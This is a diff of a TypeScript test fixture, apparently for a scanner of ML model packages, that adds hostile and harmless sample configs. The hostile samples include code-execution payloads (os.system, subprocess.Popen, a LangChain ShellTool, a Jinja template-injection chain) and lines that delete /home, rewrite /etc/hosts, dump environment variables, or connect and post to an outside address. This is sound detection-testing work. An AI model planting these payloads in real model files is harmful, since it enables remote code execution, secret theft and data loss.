@@ -21,8 +21,92 @@ const mlflow = (function_: string, more: Files = {}): Files => ({
   ...more,
 });
 
+const constructor = (id: readonly string[], kwargs: object = {}): object => ({
+  lc: 1,
+  type: 'constructor',
+  id,
+  kwargs,
+});
+const torchServe = (handler: string): string =>
+  json({ runtime: 'python', model: { modelName: 'm', serializedFile: 'model.pkl', handler, modelVersion: '1.0' } });
+const inFunction = (body: string): string => `class Net:\n  def forward(self, x):\n    ${body}\n    return x\n`;
+
 /** Each is to be accused. */
 export const HOSTILE: readonly (readonly [what: string, files: Files])[] = [
+  // Code in a folder around
+  [
+    'a target of a package above',
+    { 'conf/m/c.yaml': 'x:\n  _target_: own.models.Net\n', 'conf/m/model.pkl': WEIGHTS, 'own/models.py': EVIL },
+  ],
+  [
+    'a target of a package in src above',
+    { 'conf/c.yaml': 'x:\n  _target_: own.models.Net\n', 'conf/model.pkl': WEIGHTS, 'src/own/models.py': EVIL },
+  ],
+  [
+    'an unpacked archive of TorchServe',
+    beside('MAR-INF/MANIFEST.json', torchServe('my_handler.py:run'), { 'my_handler.py': EVIL }),
+  ],
+  [
+    'an unpacked archive of TorchServe, by a module',
+    beside('MAR-INF/MANIFEST.json', torchServe('my_handler'), { 'my_handler.py': EVIL }),
+  ],
+  ['a bento', beside('bento.yaml', 'service: service:svc\nname: m\n', { 'src/service.py': EVIL })],
+  [
+    'an application of Ray Serve',
+    beside('serve.yaml', 'applications:\n  - import_path: app:run\n', { 'app.py': EVIL }),
+  ],
+  ['a component of Rasa', beside('config.yml', 'pipeline:\n  - name: own.part.Clean\n', { 'own/part.py': EVIL })],
+  ['a component of Rasa by its name', beside('config.yml', 'pipeline:\n  - name: os.system\n    command: id\n')],
+  ['a package that AllenNLP includes', beside('config.json', json({ include_package: ['own'] }), { 'own.py': EVIL })],
+  [
+    'an import of MONAI',
+    beside('c.json', json({ x: { _target_: 'monai.utils.optional_import', module: 'os', name: 'system' } })),
+  ],
+  ['a configuration in Python', beside('config.py', EVIL)],
+  [
+    'a further chat template',
+    beside('additional_chat_templates/tool.jinja', "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+  ],
+  [
+    'a layer of sentence-transformers without weights',
+    beside('2_Dense/config.json', json({ activation_function: 'os.system' })),
+  ],
+  [
+    'a library of operations for Triton',
+    {
+      'config.pbtxt': 'platform: "tensorflow_graphdef"\nmodel_operations { op_library_filename: [ "/tmp/x.so" ] }\n',
+      '1/model.pkl': WEIGHTS,
+    },
+  ],
+  // LangChain
+  ['an object of LangChain', beside('c.json', json(constructor(['subprocess', 'Popen'], { args: ['id'] })))],
+  [
+    'a shell in a chain',
+    beside(
+      'c.json',
+      json(
+        constructor(['langchain', 'chains', 'LLMChain'], {
+          tool: constructor(['langchain_community', 'tools', 'shell', 'ShellTool']),
+        }),
+      ),
+    ),
+  ],
+  // What code does with places and addresses, in a function that a loader may call
+  ...[
+    "open('/etc/hosts', 'a').write('192.0.2.1 x')",
+    "import os, base64; open('x', 'wb').write(base64.b64encode(repr(dict(os.environ)).encode()))",
+    "import sys; sys.path.insert(0, '/tmp/x'); import helper",
+    "import shutil; shutil.rmtree('/home')",
+    "import socket; s = socket.socket(); s.connect(('192.0.2.7', 4444))",
+    "open('numpy.py', 'w').write('x')",
+    "import requests; requests.post('http://192.0.2.7/x')",
+  ].map(
+    (body) =>
+      [
+        `a module: ${body}`,
+        beside('config.json', json({ auto_map: { AutoModel: 'own.Net' } }), { 'own.py': inFunction(body) }),
+      ] as const,
+  ),
   // Targets by name
   ['a target', beside('c.yaml', 'm:\n  _target_: os.system\n  command: id\n')],
   ['a target under vocab', beside('c.yaml', 'vocab:\n  _target_: os.system\n  command: id\n')],
@@ -612,6 +696,41 @@ export const UNKNOWN: readonly (readonly [what: string, files: Files])[] = [
 
 /** None may be accused. */
 export const HARMLESS: readonly (readonly [what: string, files: Files])[] = [
+  [
+    'a chain of LangChain',
+    beside(
+      'c.json',
+      json(
+        constructor(['langchain', 'chains', 'llm', 'LLMChain'], {
+          llm: constructor(['langchain', 'llms', 'openai', 'OpenAI'], {
+            openai_api_key: { lc: 1, type: 'secret', id: ['OPENAI_API_KEY'] },
+          }),
+        }),
+      ),
+    ),
+  ],
+  [
+    'an unpacked archive of TorchServe, its own handler',
+    beside('MAR-INF/MANIFEST.json', torchServe('image_classifier')),
+  ],
+  [
+    'components of Rasa',
+    beside('config.yml', 'pipeline:\n  - name: WhitespaceTokenizer\n  - name: own.part.Clean\n', {
+      'own/part.py': 'class Clean:\n  pass\n',
+    }),
+  ],
+  [
+    'a model of Triton',
+    {
+      'config.pbtxt': 'name: "m"\nbackend: "python"\nmax_batch_size: 8\n',
+      '1/model.py': 'import json\nclass TritonPythonModel:\n  pass\n',
+      '1/model.pkl': WEIGHTS,
+    },
+  ],
+  [
+    'a configuration of MMEngine',
+    beside('config.py', "_base_ = ['../default.py']\nmodel = dict(type='MaskRCNN')\ndata_root = '/data/coco/'\n"),
+  ],
   [
     'a module of sentence-transformers with code of its own, in a folder of Hugging Face',
     {
